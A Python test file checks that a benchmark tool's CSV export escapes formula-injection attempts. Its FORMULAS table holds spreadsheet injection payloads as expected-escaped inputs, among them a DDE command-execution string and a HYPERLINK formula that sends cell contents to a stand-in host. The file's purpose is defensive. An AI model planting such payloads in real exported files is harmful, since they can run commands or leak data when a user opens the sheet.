"""Tests of a page's tables as files."""

import csv
from collections.abc import Mapping
from dataclasses import dataclass
from pathlib import PurePosixPath

import pytest

from bench.gate.stats import Interval
from bench.pages.tables import csv_text


@dataclass(frozen=True)
class Row:
    name: str
    speedup: Interval | None
    seconds: Mapping[str, float]
    batches: tuple[int, ...] = ()


ROWS = [
    Row("a, b", Interval(1.5, 1.25, 2.0), {"moe": 1 / 3}, (1, 4)),
    Row("c", None, {"moe": 2.0, "dense": 1234567.0}),
]


def test_an_interval_is_three_columns_and_a_mapping_one_a_key() -> None:
    first, second = csv.DictReader(csv_text(ROWS).splitlines())
    assert first == {
        "name": "a, b",
        "speedup": "1.5",
        "speedup_low": "1.25",
        "speedup_high": "2",
        "seconds_moe": "0.333333",
        "seconds_dense": "",
        "batches": "1 4",
    }
    assert second["seconds_dense"] == "1.23457e+06"
    assert (second["speedup_low"], second["batches"]) == ("", "")


FORMULAS = {  # a text -> the cell that a spreadsheet shows
    "=1+1": "'=1+1",
    "=cmd|' /C calc'!A0": "'=cmd|' /C calc'!A0",
    '=HYPERLINK("e.xy?"&A1,"x")': '\'=HYPERLINK("e.xy?"&A1,"x")',
    "+1+1": "'+1+1",
    "-1+1": "'-1+1",
    "-b": "'-b",
    "@SUM(A1)": "'@SUM(A1)",
    "  =1+1": "'  =1+1",
    "\t=1+1": "\\t=1+1",
    "\r=1+1": "\\r=1+1",
    "\n=1+1": "\\n=1+1",
    "\u200b=1+1": "\\u200b=1+1",
    "\uff1d1+1": "'\uff1d1+1",
    "\uff0b1 \uff0d1": "'\uff0b1 \uff0d1",
    "\uff20SUM(A1)": "'\uff20SUM(A1)",
    "a;=1+1": "a;'=1+1",
    "a; +b;-c": "a;' +b;'-c",
    "-1\n": "'-1\\n",
    "-1e": "'-1e",
    "+1 2": "'+1 2",
    "-inf": "'-inf",
}
TEXTS = [
    "-1",
    "+1.5",
    "-1.5e-3",
    "-",
    "=",
    "",
    "a=1",
    "a-b",
    "a@b",
    "x, y",
    'a "b"',
    "7b@4-mmmu",
    "1 +2",
    "'=1",
    "\u00e4",
]


def only_cell(value: object) -> str:
    header, (said,) = csv.reader(csv_text([{"name": value}]).splitlines())
    assert header == ["name"]
    return said


@pytest.mark.parametrize("text", FORMULAS)
def test_a_text_is_no_formula_wherever_it_stands(text: str) -> None:
    expected = FORMULAS[text]
    assert only_cell(text) == expected
    assert only_cell((text,)) == only_cell(PurePosixPath(text)) == expected
    header, cells = csv.reader(csv_text([{text: {"x": 1, text: 2}}]).splitlines())
    assert [name[: len(expected)] for name in header] == [expected] * 2
    assert cells == ["1", "2"]


def test_texts_that_are_none_and_numbers_stay_as_they_are() -> None:
    assert [only_cell(text) for text in TEXTS if text] == [text for text in TEXTS if text]
    numbers = {-1: "-1", -0.25: "-0.25", float("-inf"): "-inf", 10**20: "100000000000000000000"}
    assert [only_cell(number) for number in numbers] == list(numbers.values())
    assert csv_text([{"a": None, "b": -3, "c": True}]) == "a,b,c\n,-3,True\n"
